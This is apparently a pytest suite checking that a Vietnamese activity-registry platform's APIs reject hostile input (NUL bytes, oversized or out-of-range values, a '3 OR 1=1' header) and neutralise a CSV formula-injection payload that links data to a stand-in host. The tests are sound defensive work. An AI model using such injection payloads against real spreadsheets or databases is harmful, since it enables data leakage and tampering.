"""Hostile input on the paths this platform's sign-in and the coordinator's fixes added:
too big, a NUL character, a number past its column, a header stuffed with entries. Each
gets a clear 4xx and leaves no event behind (real PostgreSQL and Kafka)."""

import asyncio
import csv
import io
import json
import unicodedata
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from services.registry.config import Settings
from services.registry.demo import Tally
from shared.consistency import HEADER, MAX_EVENTS
from shared.demo_cases import SO_CONG_THUONG, demo_assignment_id
from shared.tables import events

DONG_GIANG = demo_assignment_id("60", "commune", "23074")
HAM_CAN = demo_assignment_id("60", "commune", "23116")
NUL = "\x00"


def by_name(**changes: Any) -> dict[str, Any]:
    return {
        "commune": {"edition": "pre-2025", "code": "23074"},
        "occurred_on": "2024-10-21",
        "category": "gifts_in_kind",
        "description": "Quà",
        "value_vnd": 1_000_000,
        "sponsor_unit": SO_CONG_THUONG,
        **changes,
    }


async def stored(engine: AsyncEngine) -> int:
    async with engine.connect() as conn:
        return int(await conn.scalar(select(func.count()).select_from(events)) or 0)


async def refused_without_trace(
    engine: AsyncEngine, send: Any, status: int = 422
) -> httpx.Response:
    before = await stored(engine)
    answer: httpx.Response = await send()
    assert answer.status_code == status, answer.text[:300]
    assert await stored(engine) == before, "a refused request left an event"
    return answer


@pytest.mark.parametrize(
    ("case", "body", "where"),
    [
        ("a name of 10,000 letters", by_name(sponsor_unit="S" * 10_000), "sponsor_unit"),
        ("a NUL in the unit's name", by_name(sponsor_unit=f"Sở{NUL}"), "sponsor_unit"),
        ("a NUL in the description", by_name(description=f"Quà{NUL}Tết"), None),
        ("a quantity of 10^30", by_name(quantity={"amount": "1e30", "unit": "con"}), "quantity"),
        ("a value past the maximum", by_name(value_vnd=10**15 + 1), "value_vnd"),
        ("a value of 2^63", by_name(value_vnd=2**63), "value_vnd"),
        (
            "2^31 beneficiaries",
            by_name(beneficiaries=[{"count": 2**31, "kind": "persons", "group": "poor"}]),
            "beneficiaries",
        ),
        ("a description of 3,000 letters", by_name(description="Q" * 3000), "description"),
        ("a lone surrogate in the description", by_name(description="Quà \ud800"), None),
        ("100 evidence links", by_name(evidence=["x"] * 100), "evidence"),
        (
            "a commune code in Arabic-Indic digits",
            by_name(commune={"edition": "pre-2025", "code": "٢٣٠٧٤"}),
            "commune",
        ),
        (
            "a commune code in full-width digits",
            by_name(commune={"edition": "pre-2025", "code": "２３０７４"}),
            "commune",
        ),
    ],
)
async def test_recording_by_names_refuses_hostile_input(
    activities: httpx.AsyncClient,
    activities_engine: AsyncEngine,
    demo: Tally,
    case: str,
    body: dict[str, Any],
    where: str | None,
) -> None:
    content = json.dumps(body)  # a lone surrogate goes as the escape JSON allows
    answer = await refused_without_trace(
        activities_engine,
        lambda: activities.post(
            "/activities", content=content, headers={"content-type": "application/json"}
        ),
    )
    [first, *_] = answer.json()["detail"]
    assert where is None or where in first["loc"], case
    assert " / " in first["msg"], case  # the reason in Vietnamese and English
    assert len(answer.content) < 5_000, case  # the input is not echoed back


@pytest.mark.parametrize(
    ("case", "commitment"),
    [
        ("a planned value past bigint", {"planned_value_vnd": 2**63}),
        ("a negative planned value", {"planned_value_vnd": -1}),
        ("a planned quantity of 10^30", {"planned_quantity": {"amount": "1e30", "unit": "con"}}),
        ("a NUL in the description", {"description": f"Mua{NUL}giống"}),
    ],
)
async def test_a_plan_refuses_hostile_amounts(
    activities: httpx.AsyncClient,
    activities_engine: AsyncEngine,
    demo: Tally,
    case: str,
    commitment: dict[str, Any],
) -> None:
    body = {"year": 2024, "commitments": [{"id": "c1", "description": "Giống", **commitment}]}
    await refused_without_trace(
        activities_engine, lambda: activities.post(f"/assignments/{HAM_CAN}/plans", json=body)
    )
    assert (await activities.get(f"/assignments/{HAM_CAN}/plans/2024")).status_code == 404, case


async def test_an_idempotency_key_with_a_nul_is_refused_and_records_nothing(
    activities: httpx.AsyncClient, activities_engine: AsyncEngine, demo: Tally
) -> None:
    body = by_name(id=str(uuid.uuid4()))
    answer = await refused_without_trace(
        activities_engine,
        lambda: activities.post(
            "/activities", json=by_name(description=f"x{NUL}"), headers={"Idempotency-Key": "k1"}
        ),
    )
    retried = await activities.post("/activities", json=body, headers={"Idempotency-Key": "k1"})

    assert answer.json()["detail"][0]["type"] == "value_not_storable"
    assert retried.status_code == 201  # the refused request claimed no key


async def test_a_consistency_token_is_bounded(
    activities: httpx.AsyncClient, registry_settings: Settings
) -> None:
    entry = f"{registry_settings.registry_topic}:{uuid.uuid4()}"
    too_many = await activities.get(
        "/catalogue", headers={HEADER: ",".join([entry] * (MAX_EVENTS + 1))}
    )
    too_long = await activities.get("/catalogue", headers={HEADER: "x" * 3_000})
    nul = await activities.get("/catalogue", headers={HEADER: f"{entry[:-1]}%00"})

    assert too_many.status_code == 422
    assert too_long.status_code == 422
    assert nul.status_code == 422


async def test_the_registry_refuses_a_nul_in_a_name_and_in_a_path(
    registry: httpx.AsyncClient, registry_engine: AsyncEngine
) -> None:
    unit = {"province": "60", "name": f"Đơn vị{NUL}", "kind": "department"}
    await refused_without_trace(registry_engine, lambda: registry.post("/sponsor-units", json=unit))
    lineage = await registry.get("/admin-units/2025/commune/23%00122/predecessors")
    listing = await registry.get("/assignments", params={"province": f"6{NUL}"})
    programmes = await registry.get("/programmes", params={"province": "60" * 5_000})

    assert lineage.status_code in (404, 422)
    assert listing.status_code == 422
    assert programmes.status_code == 422


NAM_GIANG = demo_assignment_id("49", "district", "510")


@pytest.mark.parametrize(
    ("case", "body"),
    [
        ("101 communes", {"communes": [f"{20_000 + i}" for i in range(101)]}),
        ("no commune", {"communes": []}),
        ("a NUL in a code", {"communes": [f"205{NUL}1"]}),
        ("a formula for a code", {"communes": ["=HYPERLINK(1)"]}),
        ("a reason of 10,000 letters", {"communes": ["20551"], "reason": "x" * 10_000}),
    ],
)
async def test_continuing_a_district_refuses_hostile_input(
    registry: httpx.AsyncClient, registry_engine: AsyncEngine, demo: Tally, case: str, body: Any
) -> None:
    path = f"/assignments/{NAM_GIANG}/continuation"
    await refused_without_trace(registry_engine, lambda: registry.post(path, json=body))


@pytest.mark.parametrize(
    "if_match",
    ['"²"', '"٣"', '"３"', '"' + "9" * 40 + '"', '"9' + "0" * 5_000 + '"', '"-1"', '"3 OR 1=1"'],
    ids=["superscript", "arabic-indic", "full-width", "40 digits", "5,001 digits", "negative",
         "sql"],
)  # fmt: skip
async def test_a_hostile_if_match_is_a_422_naming_the_header_and_changes_nothing(
    registry: httpx.AsyncClient, registry_engine: AsyncEngine, demo: Tally, if_match: str
) -> None:
    """ "²" passed str.isdigit() and failed int() (a 500); "٣" passed both."""
    path = f"/assignments/{DONG_GIANG}/end"
    body = {"ended_on": "2025-06-30", "reason": "thử / test"}
    answer = await refused_without_trace(
        registry_engine,
        lambda: registry.post(path, json=body, headers={b"If-Match": if_match.encode()}),
    )
    assert "If-Match" in answer.text


async def test_a_district_report_refuses_hostile_paths(reporting: httpx.AsyncClient) -> None:
    nul = await reporting.get("/reports/provinces/49/districts/5%0010")
    long = await reporting.get(f"/reports/provinces/49/districts/{'5' * 10_000}")
    quoted = await reporting.get('/reports/provinces/49/districts/510"', params={"format": "csv"})

    assert nul.status_code in (404, 422)
    assert long.status_code in (404, 422)
    assert quoted.status_code == 404  # no such district: nothing reaches a file name


async def test_the_province_drill_down_and_an_import_job_refuse_hostile_input(
    reporting: httpx.AsyncClient, activities: httpx.AsyncClient
) -> None:
    path = "/reports/provinces/60/activities"
    nul = await reporting.get(path, params={"category": f"cash{NUL}"})
    long = await reporting.get(path, params={"category": "c" * 10_000})
    limit = await reporting.get(path, params={"limit": 10**12})
    job = await activities.get("/imports/=HYPERLINK(1)")

    assert nul.status_code == 422
    assert long.status_code in (200, 414, 422)  # no category has that name: nothing, no 500
    assert long.status_code != 200 or long.json() == []
    assert limit.status_code == 422
    assert job.status_code == 422


async def test_a_body_past_its_bound_is_refused_before_it_is_read(
    activities: httpx.AsyncClient, activities_engine: AsyncEngine, demo: Tally
) -> None:
    body = by_name(description="Q" * 400_000)
    answer = await refused_without_trace(
        activities_engine, lambda: activities.post("/activities", json=body), status=413
    )
    assert "262,144" in answer.json()["detail"][0]["msg"]
    assert answer.headers["x-content-type-options"] == "nosniff"


async def test_a_lock_refuses_an_edition_that_does_not_exist(
    activities: httpx.AsyncClient, activities_engine: AsyncEngine, demo: Tally
) -> None:
    body = {"year": 2024, "quarter": 1, "reason": "Chốt",
            "commune": {"edition": "1999", "code": "23074"}}  # fmt: skip
    answer = await refused_without_trace(
        activities_engine, lambda: activities.post("/provinces/60/locks", json=body)
    )
    assert answer.json()["detail"][0]["loc"][-1] == "edition"


async def test_a_lone_surrogate_in_a_registry_name_is_refused(
    registry: httpx.AsyncClient, registry_engine: AsyncEngine, demo: Tally
) -> None:
    content = json.dumps({"province": "60", "name": "Sở \udc00", "kind": "armed_forces"})
    await refused_without_trace(
        registry_engine,
        lambda: registry.post(
            "/sponsor-units", content=content, headers={"content-type": "application/json"}
        ),
    )


async def test_no_route_publishes_to_kafka_for_whoever_asks(
    registry: httpx.AsyncClient, registry_settings: Settings
) -> None:
    """faststream's AsyncAPI page came with `POST /asyncapi/try`, which published any
    message to any topic with the service's Kafka credentials, without a token. Gone once
    the service has started (it was added at start-up); the document stays readable."""
    anonymous = {"Authorization": ""}
    tried = await registry.post(
        "/asyncapi/try",
        json={"channelName": registry_settings.registry_topic, "message": {"message": {}},
              "options": {"sendToRealBroker": True}},
        headers=anonymous,
    )  # fmt: skip
    document = await registry.get("/asyncapi.json", headers=anonymous)

    assert tried.status_code in (404, 405)
    assert document.status_code == 200
    assert document.json()["asyncapi"].startswith("3.")
    assert registry_settings.registry_topic in json.dumps(document.json())


async def test_a_name_is_kept_in_nfc_and_one_of_invisible_characters_only_is_refused(
    registry: httpx.AsyncClient, registry_engine: AsyncEngine, demo: Tally
) -> None:
    decomposed = unicodedata.normalize("NFD", "Đoàn Thanh niên xã Hòa Thắng (thử)")
    await refused_without_trace(
        registry_engine,
        lambda: registry.post("/sponsor-units", json={
            "province": "60", "name": "\u200b\u2060\u200b", "kind": "mass_organisation"}),
    )  # fmt: skip
    made = await registry.post(
        "/sponsor-units", json={"province": "60", "name": decomposed, "kind": "mass_organisation"}
    )
    assert made.status_code == 201, made.text
    kept = (await registry.get(f"/sponsor-units/{made.json()['id']}")).json()
    assert kept["name"] == unicodedata.normalize("NFC", decomposed)
    assert kept["name"] != decomposed


async def test_a_formula_written_as_a_description_downloads_as_text(
    activities: httpx.AsyncClient, reporting: httpx.AsyncClient, demo: Tally
) -> None:
    """A clerk's description that a spreadsheet would run: recorded as written, and in
    the downloaded list of a figure's activities it starts with `'`, never as a formula;
    a file format that does not exist is a 422."""
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    recorded = await activities.post(
        "/activities", json=by_name(description=formula, occurred_on="2024-10-22")
    )
    assert recorded.status_code == 201, recorded.text
    path = "/reports/provinces/60/activities"
    year: dict[str, str | int] = {"year": 2024, "category": "gifts_in_kind"}
    for _attempt in range(150):  # until the reporting service has counted it
        listed = (await reporting.get(path, params=year)).json()
        if any(a["activity_id"] == recorded.json()["id"] for a in listed):
            break
        await asyncio.sleep(0.2)
    as_csv = await reporting.get(path, params={**year, "format": "csv"})
    unknown = await reporting.get(path, params={**year, "format": "exe"})

    [row] = [r for r in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")))
             if recorded.json()["id"] in r]  # fmt: skip
    assert row[4] == "'" + formula
    assert unknown.status_code == 422
